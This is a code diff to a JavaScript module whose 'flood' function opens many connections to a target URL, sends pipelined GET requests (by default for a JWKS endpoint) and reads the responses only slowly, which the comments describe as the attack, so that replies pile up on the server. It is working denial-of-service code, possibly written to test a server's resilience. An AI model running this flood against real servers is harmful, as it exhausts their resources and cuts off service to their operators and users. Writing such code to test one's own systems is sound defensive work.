@@ -8,10 +8,10 @@ import { readFileSync } from 'node:fs';
 
 /**
  * Flood `url` for `seconds`: `connections` at a time, each writing `pipeline` GETs of `path` in
- * one write and pausing its reading. A connection the server closes is replaced until
+ * one write and reading what comes back for one turn of the event loop every `readEveryMs`. A connection the server closes is replaced until
  * `maxTotal` connections have been opened. Resolves with what happened once every socket is gone.
  */
-export function flood({ url, connections, pipeline, seconds, path = '/.well-known/jwks.json', maxTotal = connections * 20 }) {
+export function flood({ url, connections, pipeline, seconds, path = '/.well-known/jwks.json', maxTotal = connections * 20, readEveryMs = 250 }) {
   const { hostname, port } = new URL(url);
   const host = hostname.replace(/^\[|\]$/g, '');
   const payload = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n\r\n`.repeat(pipeline));
@@ -32,8 +32,14 @@ export function flood({ url, connections, pipeline, seconds, path = '/.well-know
         stats.open++;
         stats.peakOpen = Math.max(stats.peakOpen, stats.open);
         s.write(payload);
-        // The attack: never read the answers, so that they pile up on the server's side.
+        // The attack: read the answers slowly, so that they pile up on the server's side. A
+        // glance now and then is also how a cut-off connection is noticed, and replaced.
         s.pause();
+        const glance = setInterval(() => {
+          s.resume();
+          setImmediate(() => s.pause());
+        }, readEveryMs);
+        s.once('close', () => clearInterval(glance));
       });
       s.on('error', () => {});
       s.on('close', () => {
